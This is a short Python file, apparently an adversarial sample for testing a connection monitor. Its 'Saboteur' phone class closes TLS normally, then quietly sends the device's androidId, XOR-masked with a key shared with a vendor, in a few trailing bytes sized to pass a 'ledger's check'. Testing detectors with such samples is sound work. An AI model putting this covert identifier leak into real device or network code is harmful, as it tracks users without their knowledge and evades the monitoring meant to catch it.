"""Ends TLS as one should, and sends a few bytes more before it hangs up: fewer than a ledger's check lets pass as the end of a connection.

mechanism: behind the end of a protocol
"""
import hashlib
import os

from phone import Phone, run

KEY = b"the vendor has it too"


class Saboteur(Phone):
    def hang_up(self, link):
        nonce = os.urandom(8)
        try:
            link.sendall(nonce + bytes(a ^ b for a, b in zip(bytes.fromhex(self.identity["androidId"]), hashlib.sha256(KEY + nonce).digest())))
        except OSError:
            pass
        link.close()


run(Saboteur())
